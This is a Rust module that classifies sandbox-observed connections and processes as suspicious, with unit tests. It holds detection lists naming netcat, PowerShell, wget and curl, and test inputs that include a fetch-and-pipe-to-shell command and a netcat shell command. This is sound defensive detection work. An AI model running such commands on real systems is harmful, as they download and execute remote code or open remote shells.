//! Suspicious activity classifier.
//!
//! Table-driven rules evaluated independently over the monitor's timelines
//! and the extractor's indicators. Rules are additive: one event may carry
//! several tags. No I/O.

use std::net::{IpAddr, Ipv4Addr};

use aho_corasick::AhoCorasick;
use once_cell::sync::Lazy;
use serde::{Deserialize, Serialize};

use crate::core::assessment::{SuspicionReason, SuspicionTag, TagSubject};
use crate::core::dynamic_report::{ConnectionEntry, ConnectionEvent, DynamicReport, ProcessEntry, ProcessEvent};
use crate::core::static_report::{IndicatorRecord, StaticReport};

/// Remote ports commonly used by reverse shells, backdoors and proxies.
pub const SUSPICIOUS_PORTS: &[u16] = &[4444, 5555, 6666, 8080, 9999];

/// Process names (substring, case-insensitive) of shells and network tools.
pub const SUSPICIOUS_PROCESS_NAMES: &[&str] = &["cmd.exe", "powershell.exe", "nc.exe", "netcat.exe"];

/// Command-line keywords (substring, case-insensitive) for download/encode.
pub const SUSPICIOUS_CMDLINE_KEYWORDS: &[&str] =
    &["download", "wget", "curl", "invoke-webrequest", "base64"];

static AC_PROCESS_NAMES: Lazy<AhoCorasick> = Lazy::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(SUSPICIOUS_PROCESS_NAMES)
        .expect("valid process name automaton")
});

static AC_CMDLINE_KEYWORDS: Lazy<AhoCorasick> = Lazy::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(SUSPICIOUS_CMDLINE_KEYWORDS)
        .expect("valid command line automaton")
});

/// 10/8, 172.16/12, 192.168/16 or 127/8.
fn is_private_or_loopback_v4(ip: Ipv4Addr) -> bool {
    ip.is_private() || ip.is_loopback()
}

/// True when `ip` is in a private range or is loopback. IPv4-mapped IPv6
/// addresses are judged as IPv4; every other IPv6 address except `::1`
/// counts as public.
pub fn is_private_or_loopback(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => is_private_or_loopback_v4(v4),
        IpAddr::V6(v6) => match v6.to_ipv4_mapped() {
            Some(v4) => is_private_or_loopback_v4(v4),
            None => v6.is_loopback(),
        },
    }
}

/// Every reason a connection is suspicious. Empty without a remote endpoint.
pub fn connection_reasons(conn: &ConnectionEntry) -> Vec<SuspicionReason> {
    let mut reasons = Vec::new();
    let Some(remote) = conn.remote else {
        return reasons;
    };
    if !is_private_or_loopback(remote.ip()) {
        reasons.push(SuspicionReason::PublicRemoteAddress);
    }
    if SUSPICIOUS_PORTS.contains(&remote.port()) {
        reasons.push(SuspicionReason::AbusedPort(remote.port()));
    }
    reasons
}

/// Every reason a process is suspicious.
pub fn process_reasons(process: &ProcessEntry) -> Vec<SuspicionReason> {
    let mut reasons = Vec::new();
    if AC_PROCESS_NAMES.is_match(&process.name) {
        reasons.push(SuspicionReason::SuspiciousProcessName);
    }
    if AC_CMDLINE_KEYWORDS.is_match(&process.cmdline) {
        reasons.push(SuspicionReason::SuspiciousCommandLine);
    }
    reasons
}

/// Tags for the two activity timelines, connections first.
pub fn classify_activity(network: &[ConnectionEvent], processes: &[ProcessEvent]) -> Vec<SuspicionTag> {
    let connections = network.iter().enumerate().flat_map(|(i, ev)| {
        connection_reasons(&ev.connection)
            .into_iter()
            .map(move |reason| SuspicionTag {
                subject: TagSubject::Connection(i),
                reason,
            })
    });
    let procs = processes.iter().enumerate().flat_map(|(i, ev)| {
        process_reasons(&ev.process)
            .into_iter()
            .map(move |reason| SuspicionTag {
                subject: TagSubject::Process(i),
                reason,
            })
    });
    connections.chain(procs).collect()
}

/// One tag per static indicator record.
pub fn classify_indicators(indicators: &[IndicatorRecord]) -> Vec<SuspicionTag> {
    indicators
        .iter()
        .enumerate()
        .map(|(i, rec)| SuspicionTag {
            subject: TagSubject::Indicator(i),
            reason: SuspicionReason::StaticIndicator(rec.kind),
        })
        .collect()
}

/// All tags over one analysis, indicators first.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Classification {
    pub tags: Vec<SuspicionTag>,
}

impl Classification {
    fn count(&self, pred: impl Fn(&TagSubject) -> bool) -> usize {
        self.tags.iter().filter(|t| pred(&t.subject)).count()
    }

    fn distinct(&self, pred: impl Fn(&TagSubject) -> bool) -> usize {
        let mut subjects: Vec<TagSubject> = self
            .tags
            .iter()
            .map(|t| t.subject)
            .filter(|s| pred(s))
            .collect();
        subjects.dedup();
        subjects.len()
    }

    /// Number of connection tags (a connection may carry two).
    pub fn connection_tags(&self) -> usize {
        self.count(|s| matches!(s, TagSubject::Connection(_)))
    }

    /// Number of process tags (a process may carry two).
    pub fn process_tags(&self) -> usize {
        self.count(|s| matches!(s, TagSubject::Process(_)))
    }

    pub fn indicator_tags(&self) -> usize {
        self.count(|s| matches!(s, TagSubject::Indicator(_)))
    }

    /// Connections carrying at least one tag.
    pub fn suspicious_connections(&self) -> usize {
        self.distinct(|s| matches!(s, TagSubject::Connection(_)))
    }

    /// Processes carrying at least one tag.
    pub fn suspicious_processes(&self) -> usize {
        self.distinct(|s| matches!(s, TagSubject::Process(_)))
    }

    /// Reasons attached to one subject, in rule order.
    pub fn reasons_for(&self, subject: TagSubject) -> impl Iterator<Item = &SuspicionReason> {
        self.tags
            .iter()
            .filter(move |t| t.subject == subject)
            .map(|t| &t.reason)
    }
}

/// Classify whichever reports are present.
pub fn classify(static_report: Option<&StaticReport>, dynamic: Option<&DynamicReport>) -> Classification {
    let mut tags = Vec::new();
    if let Some(s) = static_report {
        tags.extend(classify_indicators(&s.indicators));
    }
    if let Some(d) = dynamic {
        tags.extend(classify_activity(&d.network_activity, &d.process_activity));
    }
    Classification { tags }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::dynamic_report::Protocol;
    use crate::core::static_report::IndicatorKind;
    use chrono::Utc;

    fn conn(remote: &str) -> ConnectionEvent {
        ConnectionEvent {
            observed_at: Utc::now(),
            connection: ConnectionEntry {
                protocol: Protocol::Tcp,
                local: "10.0.0.5:40000".parse().unwrap(),
                remote: Some(remote.parse().unwrap()),
                status: "ESTABLISHED".into(),
                pid: Some(100),
            },
        }
    }

    fn proc_ev(name: &str, cmdline: &str) -> ProcessEvent {
        ProcessEvent {
            observed_at: Utc::now(),
            process: ProcessEntry {
                pid: 200,
                name: name.into(),
                cmdline: cmdline.into(),
                create_time: None,
            },
        }
    }

    #[test]
    fn private_ranges() {
        for ip in ["10.1.2.3", "172.16.0.1", "172.31.255.255", "192.168.1.1", "127.0.0.1", "::1", "::ffff:192.168.0.9"] {
            assert!(is_private_or_loopback(ip.parse().unwrap()), "{ip}");
        }
        for ip in ["8.8.8.8", "172.32.0.1", "11.0.0.1", "2001:db8::1", "::ffff:1.1.1.1"] {
            assert!(!is_private_or_loopback(ip.parse().unwrap()), "{ip}");
        }
    }

    #[test]
    fn public_https_connection_is_flagged() {
        // Ordinary browsing traffic is tagged too; the rule is deliberately broad
        let tags = classify_activity(&[conn("93.184.216.34:443")], &[]);
        assert_eq!(tags.len(), 1);
        assert_eq!(tags[0].reason, SuspicionReason::PublicRemoteAddress);
    }

    #[test]
    fn private_connection_on_clean_port_is_not_flagged() {
        assert!(classify_activity(&[conn("192.168.1.20:443")], &[]).is_empty());
    }

    #[test]
    fn public_ip_on_abused_port_gets_two_tags() {
        let tags = classify_activity(&[conn("203.0.113.9:4444")], &[]);
        let reasons: Vec<_> = tags.iter().map(|t| t.reason.clone()).collect();
        assert_eq!(
            reasons,
            vec![SuspicionReason::PublicRemoteAddress, SuspicionReason::AbusedPort(4444)]
        );
        assert!(tags.iter().all(|t| t.subject == TagSubject::Connection(0)));
    }

    #[test]
    fn private_ip_on_abused_port() {
        let tags = classify_activity(&[conn("10.0.0.1:8080")], &[]);
        assert_eq!(tags.len(), 1);
        assert_eq!(tags[0].reason, SuspicionReason::AbusedPort(8080));
    }

    #[test]
    fn process_rules_are_case_insensitive() {
        let tags = classify_activity(
            &[],
            &[
                proc_ev("PowerShell.EXE", "-NoProfile"),
                proc_ev("bash", "sh -c 'WGET http://x/y | sh'"),
                proc_ev("nc.exe", "nc.exe -e cmd.exe --download"),
                proc_ev("sleep", "sleep 10"),
            ],
        );
        let c = Classification { tags };
        assert_eq!(
            c.reasons_for(TagSubject::Process(0)).collect::<Vec<_>>(),
            vec![&SuspicionReason::SuspiciousProcessName]
        );
        assert_eq!(
            c.reasons_for(TagSubject::Process(1)).collect::<Vec<_>>(),
            vec![&SuspicionReason::SuspiciousCommandLine]
        );
        assert_eq!(c.reasons_for(TagSubject::Process(2)).count(), 2);
        assert_eq!(c.reasons_for(TagSubject::Process(3)).count(), 0);
        assert_eq!(c.process_tags(), 4);
        assert_eq!(c.suspicious_processes(), 3);
    }

    #[test]
    fn every_indicator_is_tagged() {
        let records = vec![
            IndicatorRecord {
                kind: IndicatorKind::Ip,
                description: IndicatorKind::Ip.description().into(),
                count: 3,
                samples: vec![],
            },
            IndicatorRecord {
                kind: IndicatorKind::Url,
                description: IndicatorKind::Url.description().into(),
                count: 1,
                samples: vec![],
            },
        ];
        let tags = classify_indicators(&records);
        assert_eq!(tags.len(), 2);
        assert_eq!(tags[1].reason, SuspicionReason::StaticIndicator(IndicatorKind::Url));
        assert_eq!(tags[1].subject, TagSubject::Indicator(1));
    }

    #[test]
    fn no_reports_no_tags() {
        assert!(classify(None, None).tags.is_empty());
    }
}
